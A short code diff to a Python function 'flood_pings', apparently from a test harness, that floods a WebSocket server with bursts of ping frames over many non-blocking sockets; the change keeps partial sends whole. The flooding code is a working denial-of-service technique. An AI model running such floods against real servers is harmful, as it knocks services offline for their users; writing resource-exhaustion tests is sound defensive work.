@@ -268,12 +268,16 @@ def flood_pings(server, n_sockets, seconds, source=ATTACKER):
     ping = b'\x89\xfd' + b'\0\0\0\0' + b'p' * 125  # masked, zero mask
     burst = ping * 64
     deadline = time.monotonic() + seconds
+    pending = {}
     for ws in flooders:
         ws.s.setblocking(False)
+        pending[ws] = b''
     while time.monotonic() < deadline:
         for ws in flooders:
             try:
-                ws.s.send(burst)
+                # whole frames only: a cut one would be garbage next time
+                out = pending[ws] or burst
+                pending[ws] = out[ws.s.send(out):]
             except (BlockingIOError, ssl.SSLWantWriteError):
                 pass
     return flooders
